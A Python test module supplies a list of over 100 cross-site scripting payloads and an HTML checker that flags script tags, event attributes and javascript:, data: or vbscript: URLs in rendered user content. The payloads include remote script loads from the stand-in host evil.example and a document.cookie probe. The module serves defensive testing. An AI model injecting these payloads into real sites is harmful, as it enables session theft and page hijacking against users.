"""Cross-site scripting payloads for table-driven tests of every user text field, plus a checker.

Other domains import both: `from tests.qa.xss_payloads import XSS_PAYLOADS, assert_safe_html`.
"""

from html import unescape
from html.parser import HTMLParser

XSS_PAYLOADS = [
    # script tags
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=https://evil.example/x.js></script>",
    "<script/src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script\x20type='text/javascript'>alert(1);</script>",
    "<script>/*</script>*/alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "'\"><script>alert(1)</script>",
    '"><script>alert(document.cookie)</script>',
    "<script>eval(atob('YWxlcnQoMSk='))</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="alert(1)">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img/src/onerror=alert(1)>",
    '<img src="x"/onerror="alert(1)">',
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    '<a onclick="alert(1)" href="#">click</a>',
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<iframe onload=alert(1)></iframe>",
    '<p style="x" onmouseenter=alert(1)>hi</p>',
    "<span onpointerover=alert(1)>x</span>",
    "<x onclick=alert(1)>click me</x>",
    "<img src=1 onerror=alert`1`>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<image src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    # dangerous URLs in raw HTML
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=javascript:alert(1)>",
    '<base href="javascript:alert(1)//">',
    '<table background="javascript:alert(1)">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<style>*{background:url("javascript:alert(1)")}</style>',
    # svg / math mutation XSS
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    # Markdown link and image tricks
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](  javascript:alert(1))",
    "[a](  javascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript://%0aalert(1))",
    '[x]("javascript:alert(1)")',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x" onerror="alert(1)](https://example.com/x.png)',
    '![x](https://example.com/x.png"onerror="alert(1))',
    '[x](https://example.com "title\\" onmouseover=alert(1) x=\\"")',
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "[x][ref]\n\n[ref]: data:text/html,<script>alert(1)</script>",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "javascript:alert(1)",
    "https://example.com/?q=<script>alert(1)</script>",
    'www.example.com/"onmouseover="alert(1)',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <img src=x onerror=alert(1)>",
    "> <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "**<img src=x onerror=alert(1)>**",
    "[<img src=x onerror=alert(1)>](https://example.com)",
    "[x](https://example.com)<img src=x onerror=alert(1)>",
    # templating and odd characters
    "{{ 7*7 }}{% raw %}{{config}}{% endraw %}",
    "${alert(1)}",
    "\u202e<script>alert(1)</script>",
    "<scri\x00pt>alert(1)</scri\x00pt>",
    "\x00<img src=x onerror=alert(1)>",
]

DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "poster", "srcdoc", "data"}
FORBIDDEN_TAGS = {"script", "svg", "math", "iframe", "object", "embed", "style", "form", "base", "meta", "link",
                  "template", "noscript", "xmp", "frame", "frameset", "applet"}  # fmt: skip
# A whole page legitimately has the layout's <meta>, <link> and <form> tags.
PAGE_ALLOWED_TAGS = {"meta", "link", "form"}


def _normalised_url(value: str) -> str:
    value = unescape(value or "")
    return "".join(ch for ch in value if ord(ch) > 32).lower()


def _refresh(attributes: dict) -> bool:
    return (attributes.get("http-equiv") or "").lower() == "refresh"


class _Checker(HTMLParser):
    def __init__(self, allow_own_scripts: bool):
        super().__init__(convert_charrefs=True)
        self.allow_own_scripts = allow_own_scripts
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if self.allow_own_scripts and tag in PAGE_ALLOWED_TAGS and not _refresh(attributes):
            pass
        elif tag in FORBIDDEN_TAGS and not (
            tag == "script" and self.allow_own_scripts and self._own_script(attributes)
        ):
            self.problems.append(f"<{tag}> tag")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"event attribute {name}= on <{tag}>")
            if name in URL_ATTRIBUTES and _normalised_url(value or "").startswith(DANGEROUS_SCHEMES):
                self.problems.append(f"dangerous URL {name}={value!r} on <{tag}>")
            if name == "style" and "javascript:" in _normalised_url(value or ""):
                self.problems.append(f"script in style on <{tag}>")

    handle_startendtag = handle_starttag

    @staticmethod
    def _own_script(attributes: dict) -> bool:
        src = attributes.get("src") or ""
        return src.startswith("/static/") or "nonce" in attributes


def html_problems(html: str, *, page: bool = False) -> list[str]:
    """What is unsafe in `html` (a stored fragment, or a whole page whose own scripts are allowed)."""
    checker = _Checker(allow_own_scripts=page)
    checker.feed(html or "")
    checker.close()
    return checker.problems


def assert_safe_html(html: str, *, page: bool = False, context: str = "") -> None:
    """Fail when `html` has a script, an event attribute or a javascript:/data:/vbscript: URL."""
    problems = html_problems(html, page=page)
    assert not problems, f"{context}: {problems}"


assert len(XSS_PAYLOADS) >= 100, len(XSS_PAYLOADS)
